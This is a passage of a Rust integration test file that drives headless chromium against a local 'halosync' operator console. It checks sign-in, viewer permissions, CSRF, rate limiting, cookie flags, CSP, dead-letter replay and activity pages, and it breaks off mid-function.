//! The operator's web console in a real browser: Debian's `chromium`,
//! headless, driven over WebDriver by `chromedriver` (started here on a
//! free port), against a `halosync console` child process, the real
//! RabbitMQ and Redis, and halo-sim in process.
//!
//! These tests fail loudly, never skip, when chromium, chromedriver,
//! RabbitMQ or Redis is missing (`make test` installs the two Debian
//! packages). Each page they visit is saved as a PNG under
//! `target/console-screenshots/`.

use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use halo_sim::{Faults, SimConfig, SimHandle};
use halosync_shared::amqp::headers as h;
use halosync_shared::Family;
use halosync_tests::{
    account_event, binary_path, customers_of, free_port, hash_password, hidden_field, login_token,
    page_text, subscription_event, EnvOptions, PrivateRedis, TestEnv, CONNECTION, GENEROUS_BUDGET,
    SECRET_ENV,
};
use lapin::options::BasicPublishOptions;
use lapin::types::FieldTable;
use lapin::BasicProperties;
use serde_json::json;

const CHROMIUM: &str = "/usr/bin/chromium";
const CHROMEDRIVER: &str = "/usr/bin/chromedriver";
const ALICE: (&str, &str) = ("alice", "alice-operator-pw");
const VICTOR: (&str, &str) = ("victor", "victor-viewer-pw");
const WRONG_SECRET_ENV: &str = "HALOSYNC_TEST_WRONG_SECRET";

/// `target/` (the test runs from target/debug/deps).
fn target_dir() -> PathBuf {
    let exe = std::env::current_exe().expect("current exe");
    exe.ancestors()
        .find(|p| p.file_name().is_some_and(|n| n == "target"))
        .map(PathBuf::from)
        .unwrap_or_else(std::env::temp_dir)
}

fn screenshot_dir() -> PathBuf {
    let d = target_dir().join("console-screenshots");
    std::fs::create_dir_all(&d).expect("screenshot dir");
    d
}

/// A `halosync console` child on a free port.
struct Console {
    child: Child,
    url: String,
    log: PathBuf,
}

impl Console {
    /// Adds the `[console]` table (and `extra`) to the env's config file
    /// and starts the console on it.
    async fn start(env: &TestEnv, extra: &str, vars: &[(&str, &str)]) -> Console {
        let mut config = std::fs::read_to_string(&env.config_path).expect("config");
        if !config.contains("\n[console]\n") {
            config.push_str(&format!(
            "{extra}\n[console]\naudit_file = \"audit/audit.jsonl\"\nlogin_attempts = 5\n[console.users.{}]\nrole = \"operator\"\npassword_hash_env = \"H_ALICE\"\n[console.users.{}]\nrole = \"viewer\"\npassword_hash_env = \"H_VICTOR\"\n",
            ALICE.0, VICTOR.0
        ));
        }
        std::fs::write(&env.config_path, config).expect("write config");
        let port = free_port();
        let log = env.dir.join("console.log");
        let out = std::fs::File::create(&log).expect("console log");
        let err = out.try_clone().expect("console log");
        let child = Command::new(binary_path("halosync"))
            .arg("--config")
            .arg(&env.config_path)
            .args(["console", "--listen", &format!("127.0.0.1:{port}")])
            .current_dir(&env.dir)
            .env(SECRET_ENV, SimConfig::default().client_secret)
            .env("H_ALICE", hash_password(ALICE.1))
            .env("H_VICTOR", hash_password(VICTOR.1))
            .env("RUST_LOG", "info")
            .env_remove("HALOSYNC_CONFIG")
            .env_remove("HALOSYNC_PREFIX")
            .env_remove("OTEL_EXPORTER_OTLP_ENDPOINT")
            .envs(vars.iter().copied())
            .stdout(out)
            .stderr(err)
            .spawn()
            .expect("start halosync console");
        let mut c = Console {
            child,
            url: format!("http://127.0.0.1:{port}"),
            log,
        };
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            if let Ok(r) = reqwest::get(format!("{}/healthz", c.url)).await {
                if r.status().is_success() {
                    break;
                }
            }
            if let Ok(Some(status)) = c.child.try_wait() {
                panic!("the console exited ({status}):\n{}", c.logs());
            }
            assert!(
                Instant::now() < deadline,
                "the console did not start:\n{}",
                c.logs()
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        c
    }

    fn logs(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn at(&self, path: &str) -> String {
        format!("{}{path}", self.url)
    }
}

impl Drop for Console {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Headless chromium through a chromedriver of our own.
struct Browser {
    client: Option<Client>,
    driver: Child,
    profile: PathBuf,
    name: String,
}

impl Browser {
    async fn start(name: &str) -> Browser {
        for (path, package) in [(CHROMIUM, "chromium"), (CHROMEDRIVER, "chromium-driver")] {
            assert!(
                std::path::Path::new(path).exists(),
                "{path} is missing: install the Debian package {package} (`make test` does, via deploy/local/install-packages.sh)"
            );
        }
        let port = free_port();
        let driver = Command::new(CHROMEDRIVER)
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start chromedriver");
        let profile = std::env::temp_dir().join(format!(
            "halosync-chromium-{}",
            uuid::Uuid::new_v4().simple()
        ));
        std::fs::create_dir_all(&profile).expect("profile dir");
        let mut caps = serde_json::Map::new();
        caps.insert(
            "goog:chromeOptions".into(),
            json!({
                "binary": CHROMIUM,
                "args": [
                    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                    "--disable-background-networking", "--disable-component-update", "--disable-sync",
                    "--disable-dev-shm-usage", "--window-size=1400,1000",
                    format!("--user-data-dir={}", profile.display()),
                ]
            }),
        );
        let url = format!("http://127.0.0.1:{port}");
        let deadline = Instant::now() + Duration::from_secs(30);
        let client = loop {
            match ClientBuilder::rustls()
                .expect("rustls")
                .capabilities(caps.clone())
                .connect(&url)
                .await
            {
                Ok(c) => break c,
                Err(e) => {
                    assert!(
                        Instant::now() < deadline,
                        "chromedriver at {url} with {CHROMIUM} did not start a session: {e}"
                    );
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
            }
        };
        Browser {
            client: Some(client),
            driver,
            profile,
            name: name.to_string(),
        }
    }

    /// A browser `name` signed in to `console` as `who`.
    async fn signed_in(console: &Console, name: &str, who: (&str, &str)) -> Browser {
        let b = Browser::start(name).await;
        b.sign_in(console, who).await;
        b
    }

    /// The audit page's trail (`query`: its filter, e.g. `?action=test`).
    async fn audit(&self, console: &Console, query: &str) -> String {
        self.goto(&console.at(&format!("/audit{query}"))).await;
        self.text("#audit").await
    }

    fn c(&self) -> &Client {
        self.client.as_ref().expect("browser client")
    }

    async fn goto(&self, url: &str) {
        self.c().goto(url).await.expect("navigate");
    }

    async fn shot(&self, what: &str) {
        let png = self.c().screenshot().await.expect("screenshot");
        let path = screenshot_dir().join(format!("{}-{what}.png", self.name));
        std::fs::write(&path, png).expect("write screenshot");
    }

    async fn text(&self, css: &str) -> String {
        self.c()
            .find(Locator::Css(css))
            .await
            .unwrap_or_else(|e| panic!("no element {css}: {e}"))
            .text()
            .await
            .expect("text")
    }

    async fn count(&self, css: &str) -> usize {
        self.c()
            .find_all(Locator::Css(css))
            .await
            .map(|v| v.len())
            .unwrap_or(0)
    }

    async fn click(&self, css: &str) {
        self.c()
            .find(Locator::Css(css))
            .await
            .unwrap_or_else(|e| panic!("no element {css}: {e}"))
            .click()
            .await
            .unwrap_or_else(|e| panic!("click {css}: {e}"));
    }

    async fn fill(&self, css: &str, text: &str) {
        let el = self
            .c()
            .find(Locator::Css(css))
            .await
            .unwrap_or_else(|e| panic!("no element {css}: {e}"));
        el.clear().await.expect("clear");
        el.send_keys(text).await.expect("type");
    }

    async fn body(&self) -> String {
        self.text("body").await
    }

    async fn path(&self) -> String {
        self.c()
            .current_url()
            .await
            .expect("url")
            .path()
            .to_string()
    }

    async fn sign_in(&self, console: &Console, who: (&str, &str)) {
        self.goto(&console.at("/login")).await;
        self.fill("#user", who.0).await;
        self.fill("#password", who.1).await;
        self.click("#sign-in").await;
        self.wait_text("header", who.0, Duration::from_secs(30))
            .await;
    }

    /// Waits until the element's text contains `needle`.
    async fn wait_text(&self, css: &str, needle: &str, timeout: Duration) -> String {
        let deadline = Instant::now() + timeout;
        loop {
            if let Ok(el) = self.c().find(Locator::Css(css)).await {
                if let Ok(t) = el.text().await {
                    if t.contains(needle) {
                        return t;
                    }
                }
            }
            if Instant::now() > deadline {
                let body = self.body().await;
                panic!("timed out waiting for {needle:?} in {css}; the page says:\n{body}");
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        if let Some(c) = self.client.take() {
            // Closing ends chromium; do it on a thread with its own runtime.
            let _ = std::thread::spawn(move || {
                if let Ok(rt) = tokio::runtime::Builder::new_current_thread()
                    .enable_all()
                    .build()
                {
                    rt.block_on(async move {
                        let _ = c.close().await;
                    });
                }
            })
            .join();
        }
        let _ = self.driver.kill();
        let _ = self.driver.wait();
        let _ = std::fs::remove_dir_all(&self.profile);
    }
}

/// A dead letter as a worker writes it (DESIGN §3), put straight into the
/// family's dead queue; publishes are pipelined, confirms awaited at the end.
async fn put_dead(env: &TestEnv, family: Family, letters: &[(String, &str, String)]) {
    let ch = env.publisher.channel();
    let mut confirms = Vec::new();
    let event_type = match family {
        Family::Account => "account.created",
        Family::Subscription => "subscription.created",
        Family::Usage => "usage.reported",
        Family::Overage => "overage.detected",
    };
    let now = chrono::Utc::now().to_rfc3339();
    for (id, class, message) in letters {
        let mut t = FieldTable::default();
        h::set_str(&mut t, h::ERROR_CLASS, class);
        h::set_str(&mut t, h::ERROR_MESSAGE, message);
        h::set_i64(&mut t, h::ATTEMPTS, 1);
        h::set_str(&mut t, h::FIRST_FAILURE, &now);
        h::set_str(&mut t, h::LAST_FAILURE, &now);
        h::set_str(&mut t, h::WORKER, "halosync-test@host:1");
        h::set_str(&mut t, h::FAMILY, family.as_str());
        h::set_str(&mut t, h::ORIGINAL_ROUTING_KEY, event_type);
        h::set_str(&mut t, h::CONNECTION, "acme");
        h::set_str(&mut t, h::EVENT_ID, id);
        let body = json!({"id": id, "type": event_type, "schema_version": 1, "connection": "acme",
            "occurred_at": "2026-11-22T10:15:00.123Z", "data": {}})
        .to_string();
        let props = BasicProperties::default()
            .with_content_type("application/json".into())
            .with_delivery_mode(2)
            .with_message_id(id.as_str().into())
            .with_type(event_type.into())
            .with_headers(t);
        let c = ch
            .basic_publish(
                "".into(),
                env.topology.dead_queue(family).as_str().into(),
                BasicPublishOptions::default(),
                body.as_bytes(),
                props,
            )
            .await
            .expect("publish dead letter");
        confirms.push(c);
    }
    for c in confirms {
        assert!(
            c.await.expect("confirm").is_ack(),
            "broker nacked a dead letter"
        );
    }
}

/// The console's log lines about CSP violations the browser reported.
fn csp_violations(console: &Console) -> Vec<String> {
    console
        .logs()
        .lines()
        .filter(|l| l.contains("CSP violation reported"))
        .map(str::to_string)
        .collect()
}

/// No page visited so far broke the Content Security Policy. Then a
/// canary (a style attribute set from script, which the policy forbids)
/// proves that violations do reach the console's log.
async fn assert_no_csp_violation(b: &Browser, console: &Console) {
    let seen = csp_violations(console);
    assert!(
        seen.is_empty(),
        "the browser reported CSP violations:\n{}",
        seen.join("\n")
    );
    b.c()
        .execute(
            "document.body.setAttribute('style', 'outline: 1px solid red')",
            vec![],
        )
        .await
        .expect("run the canary");
    let deadline = Instant::now() + Duration::from_secs(30);
    while csp_violations(console).is_empty() {
        assert!(
            Instant::now() < deadline,
            "the canary's CSP violation was never reported:\n{}",
            console.logs()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let seen = csp_violations(console);
    assert_eq!(seen.len(), 1, "only the canary: {seen:?}");
    assert!(seen[0].contains("style-src"), "{}", seen[0]);
}

/// A client that keeps cookies and does not follow redirects, from
/// `address` (any 127.x address is this machine).
fn http_client(address: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .local_address(std::net::IpAddr::from(address))
        .build()
        .expect("http client")
}

/// Signs in as a browser does: the form (with its token and cookie) is
/// fetched first, then posted with `fields` added.
async fn post_sign_in(
    client: &reqwest::Client,
    console: &Console,
    fields: &[(&str, &str)],
) -> reqwest::Response {
    post_sign_in_with(client, console, None, fields).await
}

/// [`post_sign_in`] with one more request header (`Origin`,
/// `X-Forwarded-Proto`).
async fn post_sign_in_with(
    client: &reqwest::Client,
    console: &Console,
    header: Option<(&str, &str)>,
    fields: &[(&str, &str)],
) -> reqwest::Response {
    let token = login_token(client, &console.at("/login")).await;
    let mut form: Vec<(&str, &str)> = vec![("login_token", token.as_str())];
    form.extend_from_slice(fields);
    let mut request = client.post(console.at("/login")).form(&form);
    if let Some((name, value)) = header {
        request = request.header(name, value);
    }
    request.send().await.expect("sign in")
}

/// `POST`s `form` to the console's `path` through `client`.
async fn post_form(
    client: &reqwest::Client,
    console: &Console,
    path: &str,
    form: &[(&str, &str)],
) -> reqwest::Response {
    client
        .post(console.at(path))
        .form(form)
        .send()
        .await
        .expect("post")
}

/// A reqwest client signed in as `who` (cookies kept), and its CSRF token
/// read from a page, as a browser would see it.
async fn http_session(console: &Console, who: (&str, &str)) -> (reqwest::Client, String) {
    let client = http_client([127, 0, 0, 1]);
    let r = post_sign_in(&client, console, &[("user", who.0), ("password", who.1)]).await;
    assert_eq!(r.status(), 303, "sign-in as {} must succeed", who.0);
    let page = page_text(&client, &console.at("/connections")).await;
    let csrf = hidden_field(&page, "csrf");
    (client, csrf)
}

#[tokio::test(flavor = "multi_thread")]
async fn signing_in_is_required_viewers_cannot_act_and_csrf_is_enforced() {
    let env = TestEnv::new("con-auth").await;
    put_dead(
        &env,
        Family::Account,
        &[(
            "evt_auth_1".into(),
            "rejected",
            "HaloPSA refused the customer".into(),
        )],
    )
    .await;
    let console = Console::start(&env, "", &[]).await;
    let b = Browser::start("auth").await;

    // Not signed in: every page sends you to the sign-in form.
    b.goto(&console.at("/dead")).await;
    assert_eq!(b.path().await, "/login");
    b.shot("01-sign-in").await;
    b.fill("#user", ALICE.0).await;
    b.fill("#password", "not-the-password").await;
    b.click("#sign-in").await;
    let err = b
        .wait_text("#login-error", "Wrong", Duration::from_secs(30))
        .await;
    assert!(err.contains("Wrong user name or password"), "{err}");
    b.shot("02-sign-in-refused").await;

    // A viewer sees the dead letters but no replay or purge button.
    b.sign_in(&console, VICTOR).await;
    b.goto(&console.at("/dead")).await;
    b.wait_text("#letters", "evt_auth_1", Duration::from_secs(30))
        .await;
    assert_eq!(
        b.count("button[value=replay]").await,
        0,
        "a viewer sees no replay button"
    );
    assert_eq!(
        b.count("button[value=purge]").await,
        0,
        "a viewer sees no purge button"
    );
    assert_eq!(b.count("#test-acme").await, 0);
    b.shot("03-viewer-dead-letters").await;

    // ... and the request itself is refused with 403, CSRF token or not.
    let (viewer, csrf) = http_session(&console, VICTOR).await;
    let r = post_form(
        &viewer,
        &console,
        "/dead/action",
        &[
            ("csrf", csrf.as_str()),
            ("action", "replay"),
            ("event_id", "evt_auth_1"),
        ],
    )
    .await;
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap_or_default().contains("viewer"));
    let r = post_form(
        &viewer,
        &console,
        "/dead/run",
        &[
            ("csrf", csrf.as_str()),
            ("action", "purge"),
            ("event_id", "evt_auth_1"),
            ("expected", "1"),
            ("confirm_word", "purge"),
        ],
    )
    .await;
    assert_eq!(r.status(), 403);

    // An operator without the CSRF token is refused too; with it, asked to confirm.
    let (op, csrf) = http_session(&console, ALICE).await;
    let r = post_form(
        &op,
        &console,
        "/dead/action",
        &[("action", "replay"), ("event_id", "evt_auth_1")],
    )
    .await;
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap_or_default().contains("CSRF"));
    let r = post_form(
        &op,
        &console,
        "/dead/action",
        &[
            ("csrf", "0".repeat(64).as_str()),
            ("action", "replay"),
            ("event_id", "evt_auth_1"),
        ],
    )
    .await;
    assert_eq!(r.status(), 403, "a wrong token is no token");
    let r = post_form(
        &op,
        &console,
        "/dead/action",
        &[
            ("csrf", csrf.as_str()),
            ("action", "replay"),
            ("event_id", "evt_auth_1"),
        ],
    )
    .await;
    assert_eq!(r.status(), 200);
    assert!(r
        .text()
        .await
        .unwrap_or_default()
        .contains("Replay 1 dead letters?"));
    // Nothing moved: the dead letter is still there.
    env.wait_depth(
        &env.topology.dead_queue(Family::Account),
        1,
        "nothing moved",
    )
    .await;

    // Not signed in at all: 401 for a state-changing request.
    let anon = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client");
    let r = post_form(
        &anon,
        &console,
        "/dead/run",
        &[
            ("action", "purge"),
            ("expected", "1"),
            ("confirm_word", "purge"),
        ],
    )
    .await;
    assert_eq!(r.status(), 401);

    // Sign-in attempts are rate-limited (5 per window here), per user name
    // and per address (this client comes from 127.0.0.3).
    let guesser = http_client([127, 0, 0, 3]);
    let mut statuses = Vec::new();
    for _ in 0..7 {
        let r = post_sign_in(
            &guesser,
            &console,
            &[("user", "mallory"), ("password", "guess")],
        )
        .await;
        statuses.push(r.status().as_u16());
    }
    assert_eq!(
        statuses,
        [401, 401, 401, 401, 401, 429, 429],
        "{statuses:?}"
    );

    let r = post_sign_in(
        &guesser,
        &console,
        &[("user", ALICE.0), ("password", ALICE.1)],
    )
    .await;
    // The address is locked out for now, even for a right password.
    assert_eq!(r.status(), 429);
    let fresh = http_client([127, 0, 0, 2]);
    let r = post_sign_in_with(
        &fresh,
        &console,
        Some(("x-forwarded-proto", "https")),
        &[("user", VICTOR.0), ("password", VICTOR.1)],
    )
    .await;
    assert_eq!(r.status(), 303, "another address is not locked out");
    // The session cookie's flags (Secure: the request came through TLS).
    let cookie = r
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    for flag in ["HttpOnly", "SameSite=Strict", "Secure"] {
        assert!(cookie.contains(flag), "{flag} missing: {cookie}");
    }

    // Sign-ins are in the audit trail.
    let audit = b.audit(&console, "").await;
    assert!(
        audit.contains("sign-in") && audit.contains(VICTOR.0),
        "{audit}"
    );
    b.shot("04-audit").await;
    // Every page above ran under the CSP without breaking it.
    assert_no_csp_violation(&b, &console).await;
    drop(console);
}

#[tokio::test(flavor = "multi_thread")]
async fn connection_test_shows_each_mistake_and_its_fix() {
    let env = TestEnv::with(
        "con-check",
        EnvOptions {
            sim: SimConfig {
                tenant: Some("acme".into()),
                ..Default::default()
            },
            ..Default::default()
        },
    )
    .await;
    let perm = SimHandle::start(SimConfig {
        tenant: Some("acme".into()),
        ..Default::default()
    })
    .await
    .expect("second halo-sim");
    perm.set_faults(Faults {
        deny: vec!["items:read".into()],
        ..Default::default()
    });
    let sim = &env.sim;
    let extra = format!(
        r#"
[connections.wrongsecret]
resource_server = "{api}"
auth_server = "{auth}"
tenant = "acme"
client_id = "{id}"
client_secret_env = "{WRONG_SECRET_ENV}"

[connections.notenant]
resource_server = "{api}"
auth_server = "{auth}"
client_id = "{id}"
client_secret_env = "{SECRET_ENV}"

[connections.noperm]
resource_server = "{papi}"
auth_server = "{pauth}"
tenant = "acme"
client_id = "{id}"
client_secret_env = "{SECRET_ENV}"
"#,
        api = sim.api_url(),
        auth = sim.auth_url(),
        papi = perm.api_url(),
        pauth = perm.auth_url(),
        id = SimConfig::default().client_id,
    );
    let console = Console::start(&env, &extra, &[(WRONG_SECRET_ENV, "not-the-secret")]).await;
    let b = Browser::signed_in(&console, "connections", ALICE).await;
    b.goto(&console.at("/connections")).await;
    let page = b.body().await;
    assert!(
        page.contains(WRONG_SECRET_ENV),
        "shows where the secret comes from"
    );
    assert!(!page.contains("not-the-secret"), "never the secret itself");
    assert!(!page.contains(&SimConfig::default().client_secret));
    b.shot("01-list").await;

    b.click("#test-acme").await;
    let r = b
        .wait_text("#conn-acme #report", "checks", Duration::from_secs(60))
        .await;
    assert!(r.contains("all checks passed"), "{r}");
    b.shot("02-acme-ok").await;

    b.click("#test-wrongsecret").await;
    let r = b
        .wait_text(
            "#conn-wrongsecret #report",
            "failed",
            Duration::from_secs(60),
        )
        .await;
    assert!(r.contains("✘ token: 401 invalid_client"), "{r}");
    assert!(
        r.contains("Fix:") && r.contains("the client id or secret is wrong"),
        "{r}"
    );
    assert!(
        r.contains(WRONG_SECRET_ENV),
        "names where the secret comes from: {r}"
    );
    b.shot("03-wrong-secret").await;

    b.click("#test-notenant").await;
    let r = b
        .wait_text("#conn-notenant #report", "failed", Duration::from_secs(60))
        .await;
    assert!(r.contains("✘ token: 500 HTML error page"), "{r}");
    assert!(r.contains("tenant"), "{r}");
    assert!(
        r.contains("try tenant = \"acme\""),
        "the fix names the tenant: {r}"
    );
    b.shot("04-missing-tenant").await;

    b.click("#test-noperm").await;
    let r = b
        .wait_text("#conn-noperm #report", "failed", Duration::from_secs(60))
        .await;
    assert!(r.contains("✘ items: 403 You do not have permission"), "{r}");
    assert!(r.contains("Feature Access: Products (Items)"), "{r}");
    assert!(r.contains("✔ customers"), "{r}");
    b.shot("05-missing-permission").await;

    // Each test is in the audit trail, with who ran it.
    let audit = b.audit(&console, "?action=test").await;
    for name in ["acme", "wrongsecret", "notenant", "noperm"] {
        assert!(
            audit.contains(&format!("connection {name}")),
            "{name}: {audit}"
        );
    }
    assert!(audit.contains(ALICE.0));
    b.shot("06-audit").await;
    drop(console);
    perm.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn replaying_a_group_of_5000_dead_letters_runs_server_side_with_progress() {
    let env = TestEnv::new("con-bulk").await;
    const N: usize = 5000;
    let letters: Vec<(String, &str, String)> = (0..N)
        .map(|i| {
            (
                format!("evt_bulk_{i:05}"),
                "unmapped",
                format!(
                    "no HaloPSA item mapping for sku \"SKU-{}\" (connection acme)",
                    i % 7
                ),
            )
        })
        .collect();
    put_dead(&env, Family::Subscription, &letters).await;
    // And one dead letter of another cause, which the group replay leaves alone.
    put_dead(
        &env,
        Family::Account,
        &[("evt_other".into(), "rejected", "HaloPSA said no".into())],
    )
    .await;
    let console = Console::start(&env, "", &[]).await;
    let b = Browser::signed_in(&console, "bulk", ALICE).await;
    b.goto(&console.at("/dead")).await;
    let groups = b
        .wait_text("#groups", "5000", Duration::from_secs(120))
        .await;
    assert!(
        groups.contains("no HaloPSA item mapping for sku \"SKU-#\""),
        "numbers are folded: {groups}"
    );
    b.shot("01-groups").await;
    // The group's replay button (the biggest group comes first).
    b.click("#groups tr.group button[value=replay]").await;
    let n = b
        .wait_text("#affected", "5000", Duration::from_secs(120))
        .await;
    assert_eq!(n, "5000");
    b.shot("02-confirm").await;
    env.wait_depth(
        &env.topology.dead_queue(Family::Subscription),
        N as u32,
        "asking changes nothing",
    )
    .await;
    b.click("#go").await;
    b.wait_text("#job-state", "", Duration::from_secs(10)).await;
    assert!(b.path().await.starts_with("/jobs/"));
    // While it runs, the progress goes up in the page (no reload) and other
    // pages still answer.
    let mut seen = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(300);
    loop {
        let removed: usize = b.text("#job-removed").await.trim().parse().unwrap_or(0);
        let state = b.text("#job-state").await;
        if seen.last() != Some(&removed) {
            seen.push(removed);
        }
        if seen.len() == 3 {
            b.shot("03-progress").await;
        }
        if state.contains("done") || state.contains("failed") {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the job did not end; seen {seen:?}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(
        seen.iter().any(|n| *n > 0 && *n < N),
        "progress was shown while the job ran: {seen:?}"
    );
    let state = b.text("#job-state").await;
    assert_eq!(state, "done", "{}", b.body().await);
    assert_eq!(b.text("#job-removed").await, N.to_string());
    assert_eq!(b.text("#job-failed").await, "0");
    b.shot("04-done").await;
    assert_eq!(
        env.depth(&env.topology.dead_queue(Family::Subscription))
            .await,
        0
    );
    assert_eq!(
        env.depth(&env.topology.work_queue(Family::Subscription))
            .await,
        N as u32
    );
    env.wait_depth(
        &env.topology.dead_queue(Family::Account),
        1,
        "the other group stays",
    )
    .await;
    // Who did it, how many, with the event ids.
    let audit = b.audit(&console, "?action=replay").await;
    assert!(
        audit.contains(ALICE.0) && audit.contains("5000") && audit.contains("evt_bulk_"),
        "{audit}"
    );
    b.shot("05-audit").await;
    let file = std::fs::read_to_string(env.dir.join("audit/audit.jsonl")).expect("audit file");
    let done = file
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|e| e["action"] == "replay" && e["outcome"] == "done")
        .expect("a done replay entry");
    assert_eq!(done["count"], N);
    assert_eq!(done["event_ids"].as_array().map(Vec::len), Some(N));
    assert_eq!(done["user"], ALICE.0);
    // The job page (progress bar, live counters) under the CSP.
    assert_no_csp_violation(&b, &console).await;
    drop(console);
}

#[tokio::test(flavor = "multi_thread")]
async fn overview_numbers_equal_the_broker_and_halo_sim_after_a_run_with_failures() {
    let mut env = TestEnv::new("con-over").await;
    env.spawn_worker("halosync-account");
    env.publish_accounts("evt_ok_", 0..6, 1, |i| format!("Customer {i}"))
        .await;
    // Failures: an unknown connection and a schema violation are dead-lettered at once.
    let mut bad = account_event("evt_bad_conn", "acc_x", "X", true, 1);
    bad["connection"] = json!("nosuch");
    env.publish(&bad).await;
    let mut bad = account_event("evt_bad_schema", "acc_y", "Y", true, 1);
    bad["data"]["active"] = json!("yes");
    env.publish(&bad).await;
    env.wait_drained(Family::Account, Duration::from_secs(60))
        .await;
    let dead = env.depth(&env.topology.dead_queue(Family::Account)).await;
    assert_eq!(dead, 2);
    let console = Console::start(&env, "", &[]).await;
    let b = Browser::signed_in(&console, "overview", VICTOR).await;
    b.goto(&console.at("/")).await;
    assert_eq!(b.text("#total-dead").await, dead.to_string());
    assert_eq!(
        b.text("#family-account td:nth-child(4)").await,
        dead.to_string()
    );
    assert_eq!(b.text("#family-account td:nth-child(2)").await, "0");
    assert_eq!(
        b.text("#family-account td:nth-child(5)").await,
        "1",
        "one account worker consumes"
    );
    // The budget used is what halo-sim counted (every API request of the run).
    let api_requests = env.sim.max_requests_in_any_window(300);
    assert!(api_requests > 0);
    let used = b.text("#conn-acme td:nth-child(5)").await;
    assert!(
        used.starts_with(&format!("{api_requests} / ")),
        "{used} vs {api_requests}"
    );
    assert!(b
        .text("#conn-acme td:nth-child(6)")
        .await
        .contains("valid until"));
    b.shot("01-overview").await;
    // Live: a new dead letter shows up without a reload.
    put_dead(
        &env,
        Family::Usage,
        &[("evt_live".into(), "invalid", "late".into())],
    )
    .await;
    b.wait_text(
        "#total-dead",
        &(dead + 1).to_string(),
        Duration::from_secs(20),
    )
    .await;
    b.wait_text(
        "#family-usage td:nth-child(4)",
        "1",
        Duration::from_secs(20),
    )
    .await;
    b.shot("02-overview-live").await;
    assert_eq!(env.clients().len(), 6);
    // The live overview (script from /static, server-sent events) under the CSP.
    assert_no_csp_violation(&b, &console).await;
    drop(console);
}

/// Points the env's config (workers and console) at another Redis.
fn use_redis(env: &TestEnv, url: &str) {
    let text = std::fs::read_to_string(&env.config_path).expect("config");
    let text: String = text
        .lines()
        .map(|l| {
            if l.starts_with("redis_url") {
                format!("redis_url = \"{url}\"")
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    std::fs::write(&env.config_path, text + "\n").expect("config");
}

#[tokio::test(flavor = "multi_thread")]
async fn activity_page_searches_pages_exports_and_survives_flushall() {
    let redis = PrivateRedis::started();
    let mut env = TestEnv::new("con-act").await;
    use_redis(&env, &redis.url());
    env.spawn_worker("halosync-account");
    for i in 0..60 {
        env.publish(&account_event(
            &format!("evt_a_{i:02}"),
            &format!("acc_{i}"),
            &format!("Customer {i}"),
            true,
            1,
        ))
        .await;
    }
    let mut bad = account_event("evt_a_bad", "acc_bad", "Bad", true, 1);
    bad["data"]["active"] = json!("yes");
    env.publish(&bad).await;
    env.wait_drained(Family::Account, Duration::from_secs(90))
        .await;
    let console = Console::start(&env, "", &[]).await;
    let b = Browser::signed_in(&console, "activity", VICTOR).await;
    b.goto(&console.at("/activity")).await;
    b.wait_text("#activity-total", "61 matching", Duration::from_secs(30))
        .await;
    assert_eq!(b.count("#activity tbody tr").await, 50, "50 per page");
    assert_eq!(b.text("#page-of").await, "page 1 of 2");
    b.shot("01-all").await;
    b.click("#older").await;
    b.wait_text("#page-of", "page 2 of 2", Duration::from_secs(10))
        .await;
    assert_eq!(b.count("#activity tbody tr").await, 11);
    // Filters live in the URL: typed in the form, kept by the address.
    b.goto(&console.at("/activity")).await;
    b.fill("input[name=event_id]", "evt_a_4").await;
    b.click("form.filters button[type=submit]").await;
    b.wait_text("#activity-total", "10 matching", Duration::from_secs(10))
        .await; // evt_a_40 ..= evt_a_49 (ids are zero-padded)
    let url = b.c().current_url().await.expect("url");
    assert!(url.as_str().contains("event_id=evt_a_4"), "{url}");
    b.goto(&console.at("/activity?outcome=dead-lettered")).await;
    let t = b
        .wait_text("#activity", "evt_a_bad", Duration::from_secs(10))
        .await;
    assert!(t.contains("dead-lettered") && t.contains("invalid"), "{t}");
    assert_eq!(b.text("#activity-total").await, "1 matching");
    b.shot("02-dead-lettered").await;
    // CSV of everything matching (both pages).
    let (http, _) = http_session(&console, VICTOR).await;
    let csv = http
        .get(console.at("/activity.csv?outcome=applied"))
        .send()
        .await
        .expect("csv");
    assert_eq!(csv.status(), 200);
    assert!(csv.headers()["content-type"]
        .to_str()
        .unwrap_or("")
        .starts_with("text/csv"));
    let text = csv.text().await.expect("csv body");
    assert_eq!(
        text.lines().count(),
        1 + 60,
        "header + 60 applied: {}",
        &text[..text.len().min(400)]
    );
    // FLUSHALL on Redis, console restarted: the log is in the broker's stream.
    drop(b);
    drop(console);
    redis.flushall().await;
    let console = Console::start(&env, "", &[]).await;
    let b = Browser::signed_in(&console, "activity-after-flushall", VICTOR).await;
    b.goto(&console.at("/activity")).await;
    b.wait_text("#activity-total", "61 matching", Duration::from_secs(30))
        .await;
    b.shot("03-after-flushall").await;
    env.kill_worker(0);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unmapped_sku_is_mapped_on_the_page_replayed_and_applied_exactly_once() {
    const ITEM: i64 = 2001;
    let mut env = TestEnv::with(
        "con-map",
        EnvOptions {
            connection_extra: format!(
